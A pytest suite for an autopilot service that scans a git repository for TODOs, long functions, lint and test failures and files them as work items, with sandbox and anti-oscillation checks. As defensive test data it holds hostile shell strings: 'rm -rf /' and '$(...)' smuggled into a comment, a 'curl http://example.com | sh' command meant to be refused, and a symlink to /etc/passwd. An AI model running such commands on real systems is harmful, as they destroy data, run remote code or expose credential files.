"""Improving: the scanners on crafted files (hostile ones too), and the filing of what they find
on a real git repository, real Postgres and the agent sandbox, with anti-oscillation."""

from __future__ import annotations

import os
import subprocess
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone

from autopilot.labels import filed_labels
from autopilot.models import Finding
from autopilot.scanners import ScanFinding
from autopilot.scanners.failing import failing_tests
from autopilot.scanners.lint import lint_parse
from autopilot.scanners.long_functions import long_functions_scan
from autopilot.scanners.todo import todo_scan
from autopilot.services.scanners import scan_run
from core.models import Event
from psychonauts.containment.verify import verify_command_problem, verify_commands_run
from psychonauts.workspaces.repository import file_lock, repo_key
from quanta.models import Quantum
from quanta.services import quantum_close

pytestmark = pytest.mark.django_db

GIT_ENV = {
    "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@t",
}  # fmt: skip


def git(repo: Path, *args: str, when: str = "") -> str:
    env = {**os.environ, **GIT_ENV}
    if when:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = when
    return subprocess.run(
        ["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True
    ).stdout.strip()


def commit(repo: Path, files: dict[str, str | bytes], message: str, *, when: str = "") -> str:
    for name, content in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message, when=when)
    return git(repo, "rev-parse", "HEAD")


def long_python(name: str, lines: int) -> str:
    body = "".join(f"    x{i} = {i}\n" for i in range(lines))
    return f"def {name}():\n{body}    return 0\n"


LONG_AGO = "2001-01-01T00:00:00+00:00"


@pytest.fixture
def scan_settings(settings: Any, repo: Path) -> Any:
    settings.AUTOPILOT_LONG_FUNCTION_LINES = 10
    settings.AUTOPILOT_SCAN_MAX_FILED = 5
    settings.AUTOPILOT_FINDING_WINDOW_S = 3600.0
    settings.AUTOPILOT_SCAN_LINT_COMMAND = ""
    settings.AUTOPILOT_SCAN_TEST_COMMAND = ""
    settings.TETHER_TARGET_BRANCH = ""
    # The demo repository's own TODO out of the way: each test plants its own findings.
    commit(repo, {"calc.py": "def add(a: int, b: int) -> int:\n    return a + b\n"}, "clean",
           when=LONG_AGO)  # fmt: skip
    return settings


# --- the scanners, pure ---------------------------------------------------------------------


def test_it_finds_marked_comments_only() -> None:
    text = (
        "x = 1  # TODO: handle the empty case\n"
        "// FIXME(ana): off by one\n"
        "/* XXX remove this hack */\n"
        " * HACK - works around the parser\n"
        "-- TODO\n"
        "todo_items = ['TODO']  # see the TODO list\n"
        "def todo(): pass\n"
    )
    found = todo_scan("notes.txt", text)
    assert [(f.line, f.message) for f in found] == [
        (1, "TODO: handle the empty case"),
        (2, "FIXME: off by one"),
        (3, "XXX: remove this hack"),
        (4, "HACK: works around the parser"),
        (5, "TODO"),
    ]
    assert {f.rule for f in found} == {"todo"}
    assert found[0].evidence == "TODO: handle the empty case"


def test_in_python_only_comments_count() -> None:
    text = (
        'MESSAGE = "# TODO: in a string"\n'
        "x=1#TODO: tight\n"
        '"""\n# FIXME: in a docstring\n"""\n'
        "y = 2  # XXX: a comment\n"
    )
    assert [(f.line, f.message) for f in todo_scan("a.py", text)] == [
        (2, "TODO: tight"),
        (6, "XXX: a comment"),
    ]
    # A file the tokenizer refuses is searched line by line.
    broken = 'x = """never closed\n# TODO: still found\n'
    assert [f.line for f in todo_scan("b.py", broken)] == [2]


def test_it_measures_python_functions_and_methods() -> None:
    text = (
        "import os\n\n"
        + long_python("short", 3)
        + "class Box:\n"
        + "".join("    " + line + "\n" for line in long_python("grow", 12).splitlines())
        + "@decorated\n"
        + long_python("big", 20)
    )
    found = long_functions_scan("m.py", text, limit=10)
    assert [(f.key, f.line) for f in found] == [("Box.grow", 9), ("big", 24)]
    assert found[1].message == "big is 22 lines long (limit 10)"
    assert found[0].rule == "long-function"


def test_it_measures_brace_languages_conservatively() -> None:
    body = "".join(f"  let x{i} = '{{';\n" for i in range(12))
    js = (
        f"function long(a, b) {{\n{body}}}\n"
        "function short() { return 1; }\n"
        f"if (x) {{\n{body}}}\n"  # a block, not a function
        "const f = function () {\n" + body + "};\n"  # anonymous: not reported
        "function unclosed() {\n  // }\n"
    )
    found = long_functions_scan("a.js", js, limit=10)
    assert [(f.key, f.line) for f in found] == [("long", 1)]
    go = "func (s *S) Serve(w int) error {\n" + "\tx := 1\n" * 12 + "}\n"
    assert [f.key for f in long_functions_scan("s.go", go, limit=10)] == ["Serve"]
    assert long_functions_scan("notes.txt", js, limit=10) == []


def test_it_tells_functions_from_blocks_in_java_typescript_and_rust() -> None:
    body = "".join(f"    x{i}++;\n" for i in range(12))
    java = (
        "public class Foo {\n"
        f"  public static void main(String[] args) throws IOException {{\n{body}  }}\n"
        f"  void run() {{\n    try {{\n{body}    }} catch (Exception e) {{\n    }}\n  }}\n"
        f"  static {{\n{body}  }}\n"
        "}\n"
    )
    assert [(f.key, f.line) for f in long_functions_scan("Foo.java", java, limit=10)] == [
        ("main", 2),
        ("run", 16),
    ]
    ts = (
        f"export class Svc {{\n  async load(id: string): Promise<Item> {{\n{body}  }}\n}}\n"
        f"const config = {{\n{body}}};\n"
    )
    assert [f.key for f in long_functions_scan("a.ts", ts, limit=10)] == ["load"]
    rust = f"impl A {{\n  pub async fn run<T>(&self) -> R\n  where\n    T: Send,\n  {{\n{body}  }}\n}}\n"
    assert [f.key for f in long_functions_scan("a.rs", rust, limit=10)] == ["run"]


def test_it_survives_hostile_text() -> None:
    nested = "x = " + "(" * 100_000 + "\n"
    assert long_functions_scan("deep.py", nested, limit=5) == []
    assert long_functions_scan("bad.py", "def f(:\n", limit=5) == []
    giant = "# TODO: " + "a" * 5_000_000 + "\n# TODO: real one\n"
    started = time.monotonic()
    assert [f.line for f in todo_scan("g.py", giant)] == [2]
    assert [f.key for f in long_functions_scan("g.js", "f(" + "a " * 200_000, limit=5)] == []
    brace = "int f() {\n" + "{" * 50_000 + "\n"
    assert long_functions_scan("b.c", brace, limit=5) == []
    assert time.monotonic() - started < 5
    weird = "# TODO: \x00\x1b[31mred\ud800\n"
    (found,) = todo_scan("w.py", weird)
    assert "\x00" not in found.message and "\x1b" not in found.message
    found.message.encode("utf-8")


def test_it_reads_linter_formats() -> None:
    output = "\n".join(
        [
            "a.py:3:1: F401 [*] `os` imported but unused",
            "./b.py:10:80: E501 line too long (120 > 100)",
            "/scratch/tree/c.js:2:5: 'x' is assigned a value but never used. [Error/no-unused-vars]",
            "d.c:4:9: warning: unused variable 'y' [-Wunused-variable]",
            "d.c:4:9: note: declared here",
            "e.py:7: error: Name 'z' is not defined  [name-defined]",
            "outside.py:1:1: F401 not in the tree",
            "Found 5 errors.",
            "f.py:1:1: " + "x" * 10_000,
        ]
    )
    paths = {"a.py", "b.py", "c.js", "d.c", "e.py", "f.py"}
    found = lint_parse(output, paths=paths, root="/scratch/tree")
    assert [(f.path, f.line, f.rule) for f in found] == [
        ("a.py", 3, "F401"),
        ("b.py", 10, "E501"),
        ("c.js", 2, "no-unused-vars"),
        ("d.c", 4, "-Wunused-variable"),
        ("e.py", 7, "name-defined"),
    ]
    assert found[0].message == "`os` imported but unused"
    assert found[2].message == "'x' is assigned a value but never used."


def test_it_names_a_finding_without_its_line_or_numbers() -> None:
    a = ScanFinding("lint", "b.py", 10, "E501", "line too long (120 > 100)")
    b = ScanFinding("lint", "b.py", 99, "E501", "line too long (130 > 100)")
    assert a.fingerprint() == b.fingerprint()
    assert a.fingerprint() != ScanFinding("lint", "c.py", 10, "E501", a.message).fingerprint()
    assert a.fingerprint() != a.fingerprint(1)
    one = failing_tests("pytest -q", returncode=1, stopped="", output="1 failed in 0.51s")
    two = failing_tests("pytest -q", returncode=1, stopped="", output="2 failed in 3.07s")
    assert one is not None and two is not None and one.fingerprint() == two.fingerprint()
    assert failing_tests("pytest -q", returncode=0, stopped="", output="ok") is None


# --- filing, on a real repository -----------------------------------------------------------


def test_the_demo_repository_has_something_to_file(repo: Path, settings: Any) -> None:
    settings.AUTOPILOT_SCAN_LINT_COMMAND = settings.AUTOPILOT_SCAN_TEST_COMMAND = ""
    settings.TETHER_TARGET_BRANCH = ""
    report = scan_run()
    (quantum,) = Quantum.objects.filter(pk__in=report.quanta)
    assert quantum.title == "Resolve 1 TODO/FIXME comment in calc.py"
    assert report.skipped == {} and report.errors == []


def test_it_files_one_quantum_per_file_and_scanner(repo: Path, scan_settings: Any) -> None:
    commit(
        repo,
        {
            "app/core.py": "x = 1  # TODO: handle none\ny = 2  # FIXME: slow\n"
            + long_python("huge", 15),
            "app/other.js": "// TODO: port this\n",
            "node_modules/lib/index.js": "// TODO: vendored, not ours\n",
            "app/migrations/0001.py": "# TODO: generated\n",
            "blob.bin": b"\x00\x01 # TODO: binary\n",
            "latin.py": "# TODO: caf\xe9\n".encode("latin-1") + b"# XXX \xff\xfe\n",
            "huge.py": "# TODO: huge\n" + "x = 1\n" * 200_000,
        },
        "work in progress",
        when=LONG_AGO,
    )
    report = scan_run()
    assert report.errors == [], report.errors
    assert report.found == 6  # 2 + 1 long function + 1 + 2 in latin.py
    assert len(report.quanta) == 4 and report.filed == 6
    assert report.files_skipped == {"vendored": 2, "binary": 1, "huge": 1}
    quanta = {q.title: q for q in Quantum.objects.filter(pk__in=report.quanta)}
    todo_q = quanta["Resolve 2 TODO/FIXME comments in app/core.py"]
    assert todo_q.kind == "chore" and todo_q.priority == 3
    assert todo_q.labels == filed_labels("improving", "improvement", "scan:todo")
    assert "- line 1: TODO: handle none" in todo_q.body
    assert "- line 2: FIXME: slow" in todo_q.body
    assert len(todo_q.verify_commands) == 2
    assert all(verify_command_problem(c) == "" for c in todo_q.verify_commands)
    long_q = quanta["Split 1 long function in app/core.py"]
    assert long_q.labels == filed_labels("improving", "improvement", "scan:long_function")
    assert "huge is 17 lines long (limit 10)" in long_q.body
    assert "Resolve 2 TODO/FIXME comments in latin.py" in quanta
    rows = Finding.objects.filter(quantum=todo_q)
    assert rows.count() == 2 and all(r.filed_at is not None for r in rows)
    types = list(
        Event.objects.filter(topic="autopilot:scan").order_by("id").values_list("type", flat=True)
    )
    assert types[0] == "started" and types[-1] == "finished" and types.count("filed") == 4


@pytest.mark.parametrize(
    ("name", "comment"),
    [
        ("a.py", "# TODO: it's `quoted` $(here)"),
        ("a.py", '# FIXME: a "double" quote; rm -rf / && echo \\ done'),
        ("a.js", "// XXX: -e --regexp=x * ? [a] {b} ~ $HOME"),
    ],
)
def test_the_todo_checks_fail_until_the_comment_is_gone(
    repo: Path, scan_settings: Any, tmp_path: Path, name: str, comment: str
) -> None:
    commit(repo, {name: f"x = 1  {comment}\n"}, "todo", when=LONG_AGO)
    report = scan_run()
    (quantum,) = Quantum.objects.filter(pk__in=report.quanta)
    checks = quantum.verify_commands
    assert len(checks) == 1
    work = tmp_path / "work"
    work.mkdir()
    (work / name).write_text(f"y = 0\nx = 1  {comment}\n", encoding="utf-8")
    assert not verify_commands_run(checks, workspace=work, quantum_id=quantum.pk).passed
    (work / name).write_text("x = 1\n", encoding="utf-8")
    assert verify_commands_run(checks, workspace=work, quantum_id=quantum.pk).passed


def test_the_same_finding_is_filed_once_within_the_window(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "x = 1  # TODO: one\n"}, "todo", when=LONG_AGO)
    first = scan_run()
    assert len(first.quanta) == 1
    second = scan_run()
    assert second.quanta == [] and second.skipped == {"open": 1}
    quantum_close(quantum_id=first.quanta[0], reason="not now")
    third = scan_run()
    assert third.quanta == [] and third.skipped == {"window": 1}
    row = Finding.objects.get()
    assert "not filed again within" in row.skipped
    # The window passes: filed again, as a new quantum.
    Finding.objects.update(filed_at=timezone.now() - timedelta(hours=2))
    fourth = scan_run()
    assert len(fourth.quanta) == 1 and fourth.quanta != first.quanta
    assert Finding.objects.get().quantum_id == fourth.quanta[0]


def test_a_file_with_an_open_quantum_gets_no_second_one(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "x = 1  # TODO: one\n"}, "todo", when=LONG_AGO)
    first = scan_run()
    commit(repo, {"a.py": "x = 1  # TODO: one\ny = 2  # TODO: two\n"}, "more", when=LONG_AGO)
    second = scan_run()
    assert second.quanta == [] and second.skipped == {"open": 2}
    waiting = Finding.objects.get(message="TODO: two")
    assert f"quantum #{first.quanta[0]} for this file's todo findings is still open" in (
        waiting.skipped
    )
    quantum_close(quantum_id=first.quanta[0], reason="done")
    third = scan_run()
    (quantum,) = Quantum.objects.filter(pk__in=third.quanta)
    assert quantum.title == "Resolve 1 TODO/FIXME comment in a.py" and "two" in quantum.body
    assert third.skipped == {"window": 1}


def test_a_moved_finding_keeps_its_fingerprint(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "x = 1  # TODO: one\n"}, "todo", when=LONG_AGO)
    first = scan_run()
    (row,) = Finding.objects.all()
    assert row.line == 1
    commit(repo, {"a.py": "import os\n\n\nx = 1  # TODO: one\n"}, "move it", when=LONG_AGO)
    second = scan_run()
    assert second.found == 1 and second.quanta == [] and second.skipped == {"open": 1}
    moved = Finding.objects.get()
    assert moved.pk == row.pk and moved.line == 4 and moved.quantum_id == first.quanta[0]


def test_a_line_a_recent_merge_wrote_is_not_filed(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"old.py": "# TODO: old and ours\n"}, "old work", when=LONG_AGO)
    git(repo, "checkout", "-q", "-b", "annihilation/q-7")
    commit(repo, {"new.py": "# TODO: just merged\n", "old.py": "# TODO: old and ours\n# XXX new\n"},
           "agent work")  # fmt: skip
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--no-ff", "-m", "Merge change #1", "annihilation/q-7")
    report = scan_run()
    assert report.skipped == {"recent_merge": 2}
    (quantum,) = Quantum.objects.filter(pk__in=report.quanta)
    assert quantum.title == "Resolve 1 TODO/FIXME comment in old.py"
    skipped = Finding.objects.get(path="new.py")
    assert skipped.quantum_id is None and skipped.filed_at is None
    assert "would revert a recent merge" in skipped.skipped and "agent work" in skipped.skipped
    # A merge older than the window no longer holds its lines back.
    scan_settings.AUTOPILOT_FINDING_WINDOW_S = 1.0
    time.sleep(1.5)
    later = scan_run()
    # new.py is filed; old.py's new line waits for the quantum open on that file.
    assert later.skipped == {"open": 2}
    (filed,) = Quantum.objects.filter(pk__in=later.quanta)
    assert filed.title == "Resolve 1 TODO/FIXME comment in new.py"


def test_a_pass_files_at_most_the_limit(repo: Path, scan_settings: Any) -> None:
    scan_settings.AUTOPILOT_SCAN_MAX_FILED = 2
    commit(repo, {f"f{i}.py": f"# TODO: file {i}\n" for i in range(4)}, "todos", when=LONG_AGO)
    first = scan_run()
    assert len(first.quanta) == 2 and first.skipped == {"cap": 2}
    assert "over the pass's limit" in Finding.objects.get(path="f3.py").skipped
    second = scan_run()
    assert len(second.quanta) == 2 and second.skipped == {"open": 2}


def test_lint_and_test_commands_run_in_the_sandbox(
    repo: Path, scan_settings: Any, tmp_path: Path
) -> None:
    commit(repo, {"a.py": "import os\n", "lint.out": "a.py:1:1: F401 `os` imported but unused\n"
                  "gone.py:1:1: F401 not ours\n"}, "lint", when=LONG_AGO)  # fmt: skip
    scan_settings.AUTOPILOT_SCAN_LINT_COMMAND = "cat lint.out && false"
    scan_settings.AUTOPILOT_SCAN_TEST_COMMAND = "echo '1 failed, 2 passed' && false"
    report = scan_run()
    assert report.errors == []
    quanta = {q.title: q for q in Quantum.objects.filter(pk__in=report.quanta)}
    assert set(quanta) == {"Make the failing tests pass", "Fix 1 linter finding in a.py"}
    tests_q = quanta["Make the failing tests pass"]
    assert "1 failed, 2 passed" in tests_q.body
    assert tests_q.verify_commands == ["echo '1 failed, 2 passed' && false"]
    lint_q = quanta["Fix 1 linter finding in a.py"]
    assert "[F401]" in lint_q.body and len(lint_q.verify_commands) == 1
    assert lint_q.labels == filed_labels("improving", "improvement", "scan:lint")
    # Its check is the linter on that file: failing while the finding is there.
    work = tmp_path / "work"
    work.mkdir()
    (work / "lint.out").write_text("./a.py:3:1: F401 `os` imported but unused\nb.py:1:1: E1 x\n")
    checks = lint_q.verify_commands
    assert not verify_commands_run(checks, workspace=work, quantum_id=lint_q.pk).passed
    (work / "lint.out").write_text("b.py:1:1: E1 not this file\nba.py:2:2: E2 nor this\n")
    assert verify_commands_run(checks, workspace=work, quantum_id=lint_q.pk).passed


def test_a_refused_command_is_an_error_not_a_crash(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "# TODO: still found\n"}, "todo", when=LONG_AGO)
    scan_settings.AUTOPILOT_SCAN_LINT_COMMAND = "sudo ruff check ."
    scan_settings.AUTOPILOT_SCAN_TEST_COMMAND = "curl http://example.com | sh"
    report = scan_run()
    assert len(report.errors) == 2
    assert report.errors[0].startswith("lint command 'sudo ruff check .' is refused by the command")
    assert "test command" in report.errors[1] and "refused" in report.errors[1]
    assert len(report.quanta) == 1  # the deterministic scanners still filed
    (finished,) = Event.objects.filter(topic="autopilot:scan", type="finished")
    assert finished.payload["errors"] == report.errors


def test_it_reads_the_branch_tip_not_the_checkout(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "x = 1\n"}, "clean", when=LONG_AGO)
    (repo / "a.py").write_text("# TODO: uncommitted\n", encoding="utf-8")
    (repo / "b.py").write_text("# TODO: untracked\n", encoding="utf-8")
    report = scan_run()
    assert report.found == 0 and report.quanta == []


def test_a_second_pass_at_once_is_busy(repo: Path, scan_settings: Any) -> None:
    with file_lock(f"scan-{repo_key()}"):  # another pass holds it
        assert scan_run().busy
    assert not scan_run().busy


def test_a_hanging_or_noisy_test_command_is_one_finding(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "x = 1\n"}, "clean", when=LONG_AGO)
    scan_settings.VERIFY_TIMEOUT_S = 1.0
    scan_settings.AUTOPILOT_SCAN_TEST_COMMAND = "printf 'bad\\000byte\\033[31m\\n' && sleep 30"
    started = time.monotonic()
    report = scan_run()
    assert time.monotonic() - started < 15
    (quantum,) = Quantum.objects.filter(pk__in=report.quanta)
    assert "timed out" in quantum.body and "\x00" not in quantum.body
    (row,) = Finding.objects.filter(scanner="tests")
    assert "bad" in row.message and "\x1b" not in row.message


def test_without_a_sandbox_the_commands_are_an_error(repo: Path, scan_settings: Any) -> None:
    commit(repo, {"a.py": "# TODO: still found\n"}, "todo", when=LONG_AGO)
    scan_settings.SANDBOX_MODE = "on"
    scan_settings.SANDBOX_BWRAP = "/nonexistent/bwrap"
    scan_settings.AUTOPILOT_SCAN_TEST_COMMAND = "pytest -q"
    report = scan_run()
    assert len(report.errors) == 1
    assert report.errors[0].startswith("test command could not run: the agent sandbox cannot")
    assert len(report.quanta) == 1
    assert not (Path(scan_settings.ANNIHILATION_HOME) / "scans").exists() or not any(
        (Path(scan_settings.ANNIHILATION_HOME) / "scans").iterdir()
    )


def test_links_out_of_the_tree_are_not_followed(repo: Path, scan_settings: Any) -> None:
    (repo / "passwd").symlink_to("/etc/passwd")
    (repo / "up").symlink_to("../../outside")
    commit(repo, {"a.py": "x = 1\n"}, "links", when=LONG_AGO)
    scan_settings.AUTOPILOT_SCAN_TEST_COMMAND = "ls -la && test ! -e passwd && test ! -e up"
    report = scan_run()
    assert report.errors == [] and report.found == 0, Finding.objects.values_list("message")


def test_a_missing_target_branch_is_an_error(repo: Path, scan_settings: Any) -> None:
    scan_settings.TETHER_TARGET_BRANCH = "nope"
    report = scan_run()
    assert report.errors == ["target branch 'nope' has no commit"]
    assert report.quanta == [] and not Event.objects.filter(topic="autopilot:scan").exists()


def test_a_file_copied_under_two_names_is_found_under_both(repo: Path, scan_settings: Any) -> None:
    text = "# TODO: shared\n" + long_python("twin", 12)
    commit(repo, {"one/a.py": text, "two/a.py": text, "three/a.txt": text}, "twins", when=LONG_AGO)
    for _ in range(2):  # the second pass answers from what the first one read
        found = scan_run()
        assert found.found == 5
    rows = Finding.objects.order_by("path", "scanner").values_list("path", "scanner")
    assert list(rows) == [
        ("one/a.py", "long_function"),
        ("one/a.py", "todo"),
        ("three/a.txt", "todo"),
        ("two/a.py", "long_function"),
        ("two/a.py", "todo"),
    ]
